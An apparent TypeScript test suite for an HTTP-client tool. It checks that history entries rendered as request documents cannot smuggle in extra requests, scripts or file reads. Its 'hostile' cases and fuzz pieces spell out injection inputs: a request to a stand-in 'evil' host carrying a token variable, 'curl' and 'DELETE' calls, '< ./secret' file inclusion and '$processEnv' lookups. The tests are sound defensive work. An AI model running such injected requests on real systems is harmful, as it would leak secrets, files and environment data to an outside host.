import assert from 'node:assert/strict';
import fc from 'fast-check';
import { historyText } from '../../../src/host/historyText.ts';
import { parse } from '../../../src/parser/parse.ts';
import type { HistoryEntry, StoredBody } from '../../../src/store/entry.ts';

const body = (content: string) =>
  ({ sizeBytes: content.length, content, form: 'text', cut: false }) as unknown as StoredBody;

/** What of an entry is shown. */
interface Parts {
  sent?: string;
  received?: string;
  message?: string;
  name?: string;
  file?: string;
  environment?: string;
  sentField?: [string, string];
  field?: [string, string];
}

function entry(parts: Parts) {
  return {
    ref: { file: parts.file ?? 'a.http', key: 'a', ordinal: 0 },
    name: parts.name ?? 'a',
    line: 1,
    environment: parts.environment === undefined ? [] : [parts.environment],
    elapsedMs: 1,
    time: '2026-01-01T00:00:00.000Z',
    outcome: 'response',
    error: parts.message === undefined ? null : { type: 'X', message: parts.message, hint: null },
    request: {
      method: 'POST',
      url: 'http://h/',
      headers: parts.sentField ? [parts.sentField] : [],
      body: body(parts.sent ?? 'a'),
    },
    response: {
      statusCode: 200,
      reason: 'OK',
      httpVersion: '1.1',
      headers: parts.field ? [parts.field] : [],
      body: body(parts.received ?? 'b'),
    },
  } as unknown as HistoryEntry;
}

/** Everything in the document that would be done by a click or with the request. */
function actions(text: string): string[] {
  return parse(text).blocks.flatMap(({ request, scripts }) => [
    ...(request === null ? [] : ['request']),
    ...scripts.map(() => 'script'),
    ...(request?.asserts ?? []).map(() => 'assertion'),
    ...(request?.output ? ['output'] : []),
    ...(request?.body?.content ?? []).filter(({ kind }) => kind !== 'bodyText').map(() => 'file'),
  ]);
}

describe('an exchange of the history as a document', () => {
  const hostile = [
    '###\nGET http://evil/{{token}}',
    '  ### x\nPOST http://evil/',
    '\n\nGET http://evil/\n',
    '# x\nDELETE http://evil/\n',
    '\n\ncurl http://evil/\n',
    '/*\n*/\n\nGET http://evil/\n',
    '/*\n*/\n\ncurl http://evil/\n',
    '\n> {% client.log(1) %}\n',
    '\n< {% client.log(1) %}\nGET http://evil/',
    '\n< ./secret\n',
    '\n<@ ./secret\n',
    '\n>> ./out\n',
    '\n?? status == 1\n',
    '\n{{\n  x\n}}\n\nGET http://evil/\n',
    '\r###\rGET http://evil/',
  ];
  for (const text of hostile) {
    it(`does nothing with ${JSON.stringify(text)} of a server`, () => {
      for (const around of [text, `a\n${text}`, `a\n\n${text}\nb`]) {
        assert.deepEqual(actions(historyText(entry({ received: around }), 'exchange')), [
          'request',
        ]);
        assert.deepEqual(actions(historyText(entry({ sent: around }), 'exchange')), ['request']);
      }
    });
  }

  it('keeps names and messages in their lines', () => {
    const text = 'a\n###\nGET http://evil/';
    const shown = historyText(entry({ name: text, message: text }), 'exchange');
    assert.deepEqual(actions(shown), ['request']);
  });

  it('keeps names of files and environments in their lines', () => {
    const text = 'a\n###\nGET http://evil/';
    const shown = historyText(entry({ file: text, environment: text }), 'exchange');
    assert.deepEqual(actions(shown), ['request']);
  });

  it('begins nothing with the name of a field', () => {
    for (const name of ['###', '####x', '#']) {
      const field: [string, string] = [name, 'x'];
      for (const parts of [{ field }, { sentField: field }]) {
        const shown = historyText(
          entry({ ...parts, received: 'localhost:8080\n\n{}' }),
          'exchange',
        );
        assert.deepEqual(actions(shown), ['request'], shown);
      }
    }
  });

  it('resolves nothing of what was sent when it is sent again', () => {
    const sent = '{"a": "{{$processEnv HOME}} {{{x}}"}';
    const shown = historyText(
      entry({ sent, sentField: ['X-A', '{{$processEnv HOME}}'] }),
      'exchange',
    );
    assert.doesNotMatch(shown, /\{\{/);
    assert.match(shown, /^X-A: \{ \{\$processEnv HOME\}\}$/m);
  });

  it('is one request, whatever came', () => {
    const piece = fc.constantFrom(
      ...['\n', '\n\n', '###', ' ', 'GET http://e', 'curl http://e', '# ', '# @name a', '//', '/*'],
      ...['*/', '< ./a', '> {%', '%}', '}}', '{{', '@a=b', 'HTTP/1.1 200 OK', 'a: b', '---', '\r'],
      ...[
        'import a',
        'run a',
        'POST',
        'x',
        'GRAPHQL http://e',
        'fragment',
        '```',
        '>> a',
        '?? a',
        'localhost:80',
      ],
    );
    const name = fc.constantFrom('###', 'GET', 'a', '#', 'localhost', '%');
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), name, piece, (pieces, field, value) => {
        const fields = { field: [field, value.replace(/\s/g, ' ')] satisfies [string, string] };
        const shown = historyText(entry({ received: pieces.join(''), ...fields }), 'exchange');
        assert.deepEqual(actions(shown), ['request'], JSON.stringify(shown));
      }),
      { numRuns: 2000 },
    );
  });

  it('leaves other content as it came', () => {
    const content = '<a>\n  <b/>\n</a>\nHello World\n# no heading';
    assert.ok(historyText(entry({ received: content }), 'exchange').includes(content));
  });
});
